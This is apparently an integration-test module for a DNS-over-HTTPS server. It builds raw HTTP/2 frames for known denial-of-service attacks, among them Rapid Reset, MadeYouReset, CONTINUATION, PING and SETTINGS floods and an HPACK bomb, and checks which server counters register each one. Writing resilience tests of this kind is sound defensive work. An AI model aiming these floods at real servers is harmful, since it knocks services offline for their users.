"""Hostile clients of DNS over HTTPS. Each plays for some seconds, one connection after the other."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator, Mapping, Sequence
from typing import Final

from tests.http2frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    SETTINGS,
    encoded,
    frame,
    get,
    headers,
    post,
    reset,
    start,
    window_update,
)
from tests.integration.hostileclients import QUERY, Play, again
from tests.wire import query_wire

_BATCH_BYTES: Final = 16384
_STREAMS: Final = 4_000  # of one connection, before another is opened
_MISSES: Final = 300
_GET: Final = get(message=QUERY)


def _rapid_resets() -> Iterator[bytes]:
    for stream in range(1, 2 * _STREAMS, 2):
        yield headers(stream, _GET) + reset(stream)


def _made_resets() -> Iterator[bytes]:
    for stream in range(1, 2 * _STREAMS, 2):
        yield headers(stream, _GET) + window_update(stream, (1 << 31) - 1)


def _misses() -> Iterator[bytes]:
    """Queries that wait for an upstream, each reset."""
    for number in range(_MISSES):
        name = f"n{random.getrandbits(40)}.never.example.net"
        yield headers(2 * number + 1, get(message=query_wire(name, query_id=0))) + reset(2 * number + 1)


def _table_bomb() -> list[bytes]:
    return [
        frame(HEADERS, END_HEADERS | END_STREAM, 1, encoded(_GET) + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000),
        *(frame(HEADERS, END_HEADERS | END_STREAM, stream, encoded(_GET) + b"\xbe" * 16_000) for stream in range(3, 99, 2)),
    ]


def _bad_requests() -> Iterator[bytes]:
    """Every kind that is refused, in turn."""
    fields = (
        [*_GET[:3], (b":path", b"/dns-query?dns=AAAA====")],
        [*_GET[:3], (b":path", b"/dns-query?dns=*!*")],
        [*_GET[:3], (b":path", b"/elsewhere")],
        [*post()[:4], (b"content-type", b"text/plain")],
        [*post(), (b"content-length", b"70000")],
        [*_GET, (b"a", b"x" * 8000)],
    )
    for stream, each in zip(range(1, 2 * _STREAMS, 2), itertools.cycle(fields), strict=False):
        yield headers(stream, each)


def _together(parts: Sequence[bytes] | Iterator[bytes]) -> list[bytes]:
    """The parts as few large writes: one for each takes the attacker more than the server."""
    joined = b"".join(parts)
    return [joined[at : at + _BATCH_BYTES] for at in range(0, len(joined), _BATCH_BYTES)]


def _over_http2(
    parts: Sequence[bytes] | Iterator[bytes], *settings: tuple[int, int], reads: bool = True, wait: bool = False
) -> Play:
    made: list[bytes] = []

    def play(ports: Mapping[str, int], seconds: float) -> int:
        if not made:
            made.extend([start(*settings), *_together(parts)])
        return again(ports["https"], "h2", seconds, lambda: made, reads=reads, wait=wait)

    return play


def _zero_window_parts() -> Iterator[bytes]:
    """Two hundred queries whose answers may not be sent."""
    for stream in range(1, 200, 2):
        yield headers(stream, _GET)


def _fields_that_conflict() -> Iterator[bytes]:
    """Transfer-encoding beside content-length."""
    for stream in range(1, 2 * _STREAMS, 2):
        yield headers(stream, post(b"/dns-query", (b"content-length", b"5"), (b"transfer-encoding", b"chunked")))


def _large_post() -> Iterator[bytes]:
    for stream in range(1, 600, 2):
        yield (
            headers(stream, post(), ends=False) + frame(DATA, 0, stream, bytes(16384)) * 4 + frame(DATA, END_STREAM, stream, b"x")
        )


_SMALL_SETTING: Final = (4).to_bytes(2) + (0).to_bytes(4)
_ZERO_WINDOW: Final = (4, 0)


def _continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, encoded(_GET))
    for _ in range(_STREAMS):
        yield frame(CONTINUATION, 0, 1, b"")


ATTACKS: Final[dict[str, tuple[Play, set[str]]]] = {
    "Rapid Reset (CVE-2023-44487)": (_over_http2(_rapid_resets()), {"h2_resets"}),
    "Rapid Reset of misses": (_over_http2(_misses()), {"h2_resets", "h2_abandoned"}),
    "MadeYouReset (CVE-2025-8671)": (_over_http2(_made_resets()), {"h2_invalid_frames"}),
    "CONTINUATION flood": (_over_http2(_continuations()), {"h2_continuations"}),
    "SETTINGS flood": (_over_http2([frame(SETTINGS, 0, 0, _SMALL_SETTING) * _STREAMS]), {"h2_settings"}),
    "PING flood": (_over_http2([frame(PING, 0, 0, bytes(8)) * _STREAMS]), {"h2_pings"}),
    "HPACK bomb": (_over_http2(_table_bomb()), {"h2_headers"}),
    "zero windows": (_over_http2(_zero_window_parts(), _ZERO_WINDOW, wait=True), set()),
    "requests that are refused": (_over_http2(_bad_requests()), {"doh_400", "doh_404", "doh_415", "doh_413"}),
    "transfer-encoding and content-length": (_over_http2(_fields_that_conflict()), {"h2_invalid_frames"}),
    "bodies of 65,537 bytes": (_over_http2(_large_post()), {"doh_413"}),
}
